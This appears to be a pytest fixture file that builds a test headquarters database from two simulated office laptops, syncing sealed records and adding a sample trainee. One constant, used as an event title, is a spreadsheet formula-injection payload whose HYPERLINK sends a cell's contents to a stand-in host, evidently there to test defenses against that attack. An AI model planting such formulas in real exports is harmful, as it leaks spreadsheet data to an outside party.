"""A real HQ for the reads tests: two offices' laptops (Rabat and Abuja) enrolled with real
tokens, their records sealed and received as a sync delivers them (no HTTP), once per module
on SQLite; the PostgreSQL variant builds its own through ``hq_db_url``."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from sqlalchemy import Engine, insert, select

from fieldapp.domain.indicators import Period
from fieldapp.domain.records import AttendanceBase, EventBase, ParticipantBase
from fieldapp.domain.vocab import EventStatus
from fieldapp.store.demo import generate
from fieldapp.store.repository import EVENT, Repository
from fieldapp.store.sealing import seal_pending
from fieldapp.store.store import Store
from sync.hq.database import open_database
from sync.hq.enrollment import create_token, enroll
from sync.hq.keys import HqKeys
from sync.hq.receive import receive_batch
from sync.hq.tables import HQ_OFFICE
from sync.seal import raw_public
from tests.conftest import FAST_KDF, PASSPHRASE

TODAY = date(2026, 11, 22)
YEAR = Period(date(2025, 11, 23), TODAY)
TRAINEE = "Zaynab Qasimi"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@dataclass(frozen=True)
class Office:
    store: Store
    office_id: str
    name: str


@dataclass(frozen=True)
class Hq:
    engine: Engine
    rabat: Office
    abuja: Office
    empty_office_id: str  # an office HQ made a token for; no device yet
    keys: HqKeys
    devices: dict[str, Ed25519PrivateKey]  # each office's laptop's signing key


def laptop(folder: Path, name: str, country: str, seed: int, events: int) -> Office:
    store, _ = Store.create(
        folder, passphrase=PASSPHRASE, office_name=name, country=country, kdf=FAST_KDF
    )
    with store.transaction() as conn:
        generate(conn, store.identity, events=events, people=events * 6, seed=seed, today=TODAY)
    return Office(store, store.identity.office_id, name)


def sync(engine: Engine, keys: HqKeys, office: Office) -> Ed25519PrivateKey:
    """Enroll the laptop into its office with a real token and deliver every batch."""
    identity = office.store.identity
    with engine.begin() as conn:
        conn.execute(
            insert(HQ_OFFICE).values(
                office_id=office.office_id, name=office.name, created_at=datetime.now(UTC)
            )
        )
    device = Ed25519PrivateKey.generate()
    token = create_token(engine, keys, office.office_id)
    enroll(
        engine,
        token.text,
        device_id=identity.device_id,
        public_key=raw_public(device.public_key()),
    )
    for batch in seal_pending(office.store, device, keys.box.public_key()):
        receive_batch(engine, batch.path.read_bytes(), keys, today=TODAY)
        batch.path.unlink()  # HQ's answer received: the courier's part
    return device


def add_trainee(office: Office) -> None:
    """Zaynab Qasimi, with her e-mail and phone, at one of Rabat's held events this year, and
    an event whose title is a spreadsheet formula."""
    store = office.store
    with store.transaction() as conn:
        event_id = (
            conn.execute(
                select(EVENT.c.id)
                .where(EVENT.c.status == EventStatus.HELD.value, EVENT.c.start_date >= YEAR.start)
                .order_by(EVENT.c.start_date)
            )
            .scalars()
            .first()
        )
        assert event_id is not None
        repo = Repository(conn, store.identity, today=TODAY)
        repo.add_event(
            EventBase(
                title=FORMULA_TITLE,
                event_type="workshop",
                start_date=date(2026, 3, 2),
                end_date=date(2026, 3, 3),
                status=EventStatus.HELD.value,
            )
        )
        pid = repo.add_participant(
            ParticipantBase(
                full_name=TRAINEE,
                sex="female",
                email="zaynab.qasimi@example.org",
                phone="+212 600 123 456",
                nationality="MAR",
            )
        )
        repo.add_attendance([AttendanceBase(event_id=event_id, participant_id=pid)])


def build_hq(db_url: str, folder: Path) -> Hq:
    keys = HqKeys.generate()
    engine = open_database(db_url)
    rabat = laptop(folder / "rabat", "Programme Office Rabat", "MAR", seed=3, events=14)
    abuja = laptop(folder / "abuja", "Liaison Office Abuja", "NGA", seed=5, events=9)
    add_trainee(rabat)
    devices = {office.office_id: sync(engine, keys, office) for office in (rabat, abuja)}
    empty = create_token(engine, keys, "Regional Office Dakar").office.office_id
    return Hq(engine, rabat, abuja, empty, keys, devices)


def close(hq: Hq) -> None:
    hq.engine.dispose()
    hq.rabat.store.close()
    hq.abuja.store.close()


@pytest.fixture(scope="module")
def hq(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hq]:
    folder = tmp_path_factory.mktemp("hq_reads")
    built = build_hq(f"sqlite:///{folder / 'hq.db'}", folder)
    yield built
    close(built)
